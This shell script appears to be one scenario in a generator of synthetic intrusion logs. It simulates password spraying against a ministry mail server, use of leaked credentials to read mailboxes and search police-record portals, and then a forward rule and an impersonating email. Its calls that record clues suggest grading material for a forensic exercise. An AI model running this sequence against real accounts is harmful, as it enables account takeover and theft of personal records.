# The ministry's: a spraying over a day, one password guessed, a mailbox read by
# night, a colleague's mail in it that gives away a shared mailbox and the
# portal, both used the night after; one export, a forward, a mail in the
# victim's name.

ministry_calendar()
{
	cat <<-END
	$(at 0 09:12) ministry_secrets
	$(at 1 22:10) ministry_spray 198.51.100.20 Bienvenue2025 1 6
	$(at 1 23:37) ministry_spray 198.51.100.21 Bienvenue2025 7 12
	$(at 2 01:15) ministry_spray 198.51.100.22 Noel2025! 1 6
	$(at 2 03:21) ministry_spray 198.51.100.22 Noel2025! 7 12
	$(at 2 12:40) ministry_spray 198.51.100.23 Hiver2025! 1 6
	$(at 2 19:26) ministry_spray 198.51.100.25 Hiver2025! 7 12
	$(at 2 21:04) ministry_enter
	$(at 2 23:11) ministry_imap
	$(at 3 00:34) ministry_portal_look
	$(at 3 21:52) ministry_mailbox
	$(at 3 22:41) ministry_portal
	$(at 4 02:03) ministry_forward
	$(at 4 02:19) ministry_send
	END
}

ministry_secrets()
{
	WHO=owner
	send "$(person office 2)" $OFFICE "$(person office)" 'Acces pendant mes conges' \
	    "Pour la boite commune: $(person shared) / $(password_of "$(person shared)")
Pour le portail, identifiant $(person officer), mot de passe $(password_of "$(person officer)")"
}

ministry_spray()
{
	# shellcheck disable=SC2046
	try_each "$1" "$2" $(people | sed -n "$3,$4p" | cut -d' ' -f1)
}

ministry_enter()
{
	victim=$(person office)
	try_imap "$victim" 198.51.100.25 Decembre2025 Decembre2025!
	session_open imap "$victim" 198.51.100.25
	note_entry "$victim" password_spray,guessing
	note_clue password_spray
	note_clue guessing "$victim"
	ask 198.51.100.25 -u "$victim@$DOMAIN:$(password_of "$victim")" imaps://192.0.2.10/ >/dev/null
	session_close
	pause 900
	webmail_night "$victim" 198.51.100.44 8 'mot portail acces'
}

ministry_imap()
{
	last=$(inbox_count "$(person office)")
	imap_bulk "$(person office)" 198.51.100.61 $((last - 19)) "$last"
}

ministry_portal_look()
{
	from=198.51.100.44
	session_open app "$(person officer)" $from
	portal_open "$(person officer)" $from
	search_records $from taj VASSEUR 1
	open_records $from taj 1
	session_close
	note_clue mail_to_record "$(person officer)"
}

ministry_mailbox()
{
	from=198.51.100.61
	session_open pop3 "$(person shared)" $from
	pop_get "$(person shared)" $from 1 "$(inbox_count "$(person shared)")"
	row copied "$(account_of "$(person shared)")"
	session_close
	note_clue mailbox_copy "$(person shared)"
}

ministry_portal()
{
	from=198.51.100.44
	session_open app "$(person officer)" $from
	portal_open "$(person officer)" $from
	for name in CORDIER GAUDIN KELLER; do
		search_records $from taj $name 2
		open_records $from taj 3
	done
	search_records $from fpr SABATIER 1
	open_records $from fpr 2
	for name in Alice Bruno; do
		portal_ask $from check hit fpr verification PV-2025-0412 name=ZIEGLER "given=$name"
		pause 15
	done
	portal_ask $from export summary taj verification PV-2025-0412 name=DUMAS
	session_close
}

ministry_forward()
{
	sieve_forward "$(person office)" 198.51.100.61
}

ministry_send()
{
	send "$(person office)" 198.51.100.61 "$(person office 2)" 'Re: Acces pendant mes conges' \
	    'Tu peux me renvoyer le code de la salle ?'
}
